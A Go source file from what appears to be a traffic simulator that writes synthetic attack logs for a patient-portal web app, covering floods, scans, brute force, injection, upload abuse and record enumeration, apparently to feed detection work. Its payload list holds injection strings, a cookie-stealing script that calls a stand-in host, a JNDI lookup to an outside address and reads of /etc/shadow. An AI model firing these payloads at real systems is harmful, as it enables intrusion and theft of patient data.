package main

import (
	"math/rand/v2"
	"strings"

	. "github.com/portcullis/portcullis/tools/internal/simlog"
)

// hosting is where lone attackers rent their machines.
var hosting = []string{"45.", "185.", "193.", "91.", "103.", "159.", "167.", "194."}

var toolUAs = []string{"python-requests/2.32.3", "Go-http-client/1.1", "curl/8.5.0", "", "Mozilla/5.0", "okhttp/3.14.9", "axios/1.7.2"}

// intruder registers a lone attacker of kind.
func (d *day) intruder(r *rand.Rand, kind string, nets []string) *Client {
	return d.log.Client(d.log.V4(r, nets), kind)
}

// loneAttackers adds each lone kind once and, by the kind's chance in
// again, a second one.
func (d *day) loneAttackers() {
	runs := []func(*rand.Rand){d.flood, d.scan, d.bruteforce, d.injection, d.upload, d.enumeration}
	again := []float64{0.3, 0.5, 0.8, 0.5, 0.4, 0.6}
	kinds := make([]Attack, len(runs))
	for i, run := range runs {
		kinds[i] = Attack{Run: run, Second: again[i]}
	}
	Attacks(Sub(d.rnd), kinds...)
}

func (d *day) flood(r *rand.Rand) {
	c := d.intruder(r, "flood", hosting)
	tr := d.trail(r, one(c), d.between(r, 0.05, 0.7), Pick(r, toolUAs))
	tr.evil = true
	stop := tr.now + Sec(Uniform(r, 45, 260))
	target := Pick(r, []string{"/", "/api/schedule/providers?specialty=primary-care", "/login", "/api/status", "/find-a-doctor"})
	Poisson(r, LogUniform(r, 25, 140), tr.now, min(stop, d.span), func(t int64) {
		tr.now = t
		tr.send("GET", target, 200, tr.hdr(), size(r, 9000), 60)
	})
}

var probePaths = []string{
	"/.env", "/.git/config", "/wp-login.php", "/wp-admin/", "/phpmyadmin/", "/admin", "/admin/login", "/server-status",
	"/actuator/env", "/actuator/heapdump", "/api/v1/swagger.json", "/swagger-ui.html", "/graphql", "/backup.zip",
	"/config.json", "/.aws/credentials", "/cgi-bin/luci", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
	"/api/internal/debug", "/clinic/api/admin/users", "/partner/v0/", "/hl7/inbound", "/fhir/metadata", "/fhir/Patient",
	"/.DS_Store", "/web.config", "/owa/auth/logon.aspx", "/remote/login", "/solr/admin/cores", "/jenkins/login",
}

func (d *day) scan(r *rand.Rand) {
	c := d.intruder(r, "scan", hosting)
	ua := Pick(r, []string{"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", "curl/7.88.1"})
	tr := d.trail(r, one(c), d.between(r, 0.05, 0.75), ua)
	tr.evil = true
	gap := LogUniform(r, 0.08, 1.5)
	for range 80 + r.IntN(600) {
		p := Pick(r, probePaths)
		st := 404
		switch {
		case strings.HasPrefix(p, "/fhir") || strings.HasPrefix(p, "/clinic/api"):
			st = 401
		case p == "/admin" || p == "/graphql":
			st = 403
		}
		if Chance(r, 0.3) {
			p += "?" + Pick(r, []string{"debug=1", "id=1", "file=../../etc/passwd", "v=" + Hex(r, 4)})
		}
		if !tr.send(Pick(r, []string{"GET", "GET", "GET", "HEAD", "POST"}), p, st, tr.hdr(), int64(120+r.IntN(400)), 6) {
			return
		}
		tr.idle(gap*0.3, gap*1.7)
	}
}

// bruteforce guesses passwords: fast from a rented machine, or slowly
// from inside the attacker's own signed-in session.
func (d *day) bruteforce(r *rand.Rand) {
	if Chance(r, 0.5) {
		c := d.intruder(r, "bruteforce", hosting)
		tr := d.trail(r, one(c), d.between(r, 0.05, 0.7), Pick(r, append(toolUAs[:3:3], browsers[0])))
		tr.evil = true
		victim := "pt-" + Hex(r, 8)
		gap := LogUniform(r, 0.2, 3)
		for i := 0; i < 40+r.IntN(500) && tr.on(); i++ {
			if Chance(r, 0.15) {
				victim = "pt-" + Hex(r, 8)
			}
			tr.user = victim
			tr.send("POST", "/api/auth/password", 401, tr.hdr()+int64(150+r.IntN(40)), 140, 200)
			tr.idle(gap*0.5, gap*1.5)
		}
		return
	}
	c := d.log.Client(d.log.V4(r, patientNets.home4), "bruteforce")
	tr := d.trail(r, one(c), d.sessionStart(r), Pick(r, browsers))
	tr.user = "pt-" + Hex(r, 8)
	d.ownAccount(tr)
	tr.read("/api/me", size(r, 1800), 22)
	// the session stays busy; every so often the account page is asked
	// to check another member's password
	for tr.on() {
		tr.idle(4, 20)
		tr.read(Pick(r, []string{"/api/appointments?upcoming=true", "/api/inbox/unread", "/api/records/labs?range=12m"}), size(r, 3000), 50)
		tr.evil = true
		tr.call("POST", "/api/account/family/link", 401, 240, 130, 190)
		tr.evil = false
	}
}

var payloads = []string{
	"' OR '1'='1", "1; DROP TABLE appointments--", "' UNION SELECT ssn,dob FROM patients--", "<script>fetch('//x.example/'+document.cookie)</script>",
	"{{7*7}}", "${jndi:ldap://203.0.113.50/a}", "../../../../etc/passwd", "1' AND SLEEP(5)--", "\"><img src=x onerror=alert(1)>",
	"{\"$ne\":null}", "admin'--", "%00", "; cat /etc/shadow", "1) OR pg_sleep(5)--",
}

var rawQuery = strings.NewReplacer(" ", "+", "&", "%26", "#", "%23")

// injection signs in like a patient and then hides payloads in ordinary
// searches, filters and message bodies.
func (d *day) injection(r *rand.Rand) {
	c := d.log.Client(d.log.V4(r, append(patientNets.home4, hosting...)), "injection")
	tr := d.trail(r, one(c), d.sessionStart(r), Pick(r, browsers))
	tr.user = "pt-" + Hex(r, 8)
	d.ownAccount(tr)
	tr.read("/api/me", size(r, 1800), 22)
	tr.idle(5, 20)
	tr.evil = true
	for i := 0; i < 15+r.IntN(120) && tr.on(); i++ {
		p := EncodeQuery(r, Pick(r, payloads), rawQuery, 0.3, 0.8)
		switch r.IntN(4) {
		case 0:
			tr.call("GET", "/api/schedule/providers?specialty="+p+"&zip=10001", Pick(r, []int{400, 200, 500}), 0, 400, 90)
		case 1:
			tr.call("GET", "/api/records/labs?range="+p, Pick(r, []int{400, 400, 500}), 0, 300, 70)
		case 2:
			tr.call("POST", "/api/inbox/threads/"+num(r, 10000000, 99999999)+"/messages", Pick(r, []int{201, 400}), int64(300+r.IntN(900)), 500, 110)
		default:
			tr.call("GET", "/api/appointments/"+p, Pick(r, []int{400, 404, 500}), 0, 250, 40)
		}
		tr.idle(0.5, 9)
	}
}

// upload sends card images far over the limit, or the same image without
// end.
func (d *day) upload(r *rand.Rand) {
	c := d.log.Client(d.log.V4(r, append(patientNets.home4[:4:4], hosting...)), "upload")
	tr := d.trail(r, one(c), d.sessionStart(r), Pick(r, append(browsers[:3:3], toolUAs[0])))
	tr.user = "pt-" + Hex(r, 8)
	d.ownAccount(tr)
	tr.read("/api/coverage", size(r, 1900), 45)
	tr.evil = true
	huge := Chance(r, 0.5)
	same := int64(LogUniform(r, 2e6, 8e6))
	for i := 0; i < 20+r.IntN(300) && tr.on(); i++ {
		if huge {
			tr.call("POST", "/api/coverage/card-images?side=front", 413, int64(LogUniform(r, 30e6, 400e6)), 180, 2500)
			tr.idle(1, 6)
			continue
		}
		tr.call("POST", "/api/coverage/card-images?side="+Pick(r, []string{"front", "back"}), 201, same, 380, 1700)
		tr.idle(0.2, 2)
	}
}

// enumeration walks ids from inside a session: lab reports, appointments,
// documents of other patients.
func (d *day) enumeration(r *rand.Rand) {
	c := d.log.Client(d.log.V4(r, append(patientNets.home4, hosting...)), "enumeration")
	ua := Pick(r, browsers)
	if Chance(r, 0.4) {
		ua = iosUA(r)
	}
	tr := d.trail(r, one(c), d.sessionStart(r), ua)
	tr.user = "pt-" + Hex(r, 8)
	d.ownAccount(tr)
	tr.read("/api/records/labs?range=12m", size(r, 9000), 140)
	tr.evil = true
	id := 3000000 + r.IntN(5000000)
	step := Pick(r, []int{1, 1, 1, 7, 13})
	tmpl := Pick(r, []string{"/api/records/labs/%d/report.pdf", "/api/appointments/%d", "/api/documents/%d", "/api/patients/%d/summary"})
	gap := LogUniform(r, 0.15, 4)
	for i := 0; i < 50+r.IntN(800) && tr.on(); i++ {
		st, down := 403, int64(110)
		switch x := r.Float64(); {
		case x < 0.25:
			st = 404
		case x < 0.31:
			st, down = 200, size(r, 60000)
		}
		tr.call("GET", strings.Replace(tmpl, "%d", itoa(id), 1), st, 0, down, 45)
		id += step
		tr.idle(gap*0.4, gap*1.6)
	}
}

// sessionStart is when an attacker who works from inside a session signs
// in: early enough that the attack itself falls in the window.
func (d *day) sessionStart(r *rand.Rand) int64 {
	return min(d.between(r, 0.02, 0.5), max(0, d.span-Sec(100)))
}

// ownAccount signs in to an account the attacker holds: no typos.
func (d *day) ownAccount(tr *trail) {
	tr.send("POST", "/api/auth/password", 200, tr.hdr()+160, 310, 230)
	tr.idle(8, 25)
	tr.send("POST", "/api/auth/otp/verify", 200, tr.hdr()+60, 1350, 42)
}
